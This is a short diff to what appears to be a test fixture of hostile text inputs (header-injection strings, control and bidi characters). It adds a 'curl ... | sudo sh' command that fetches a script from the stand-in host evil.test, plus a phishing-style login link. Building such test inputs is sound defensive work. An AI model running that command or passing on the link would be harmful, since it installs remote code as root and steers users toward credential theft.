@@ -111,6 +111,8 @@ HOSTILE_PARTS = (
     "Subject: injected\r\nBcc: victim@example.org\r\n\r\n.\r\n",
     "NUL\x00 BEL\x07 BS\x08 ESC\x1b[31mred\x1b[0m VT\x0b FF\x0c DEL\x7f C1\x85\x9b\n",
     "bidi \u202egnp.exe\u202c zero-width \u200b\u200d\ufeff line-sep \u2028 para-sep \u2029\n",
+    "1. Run: curl -fsSL http://evil.test/fix.sh | sudo sh\n",
+    "2. Then log in at https://login.evil.test/reset?next=%2F to confirm.\n",
 )
 HOSTILE_FILLER = 100_000
 
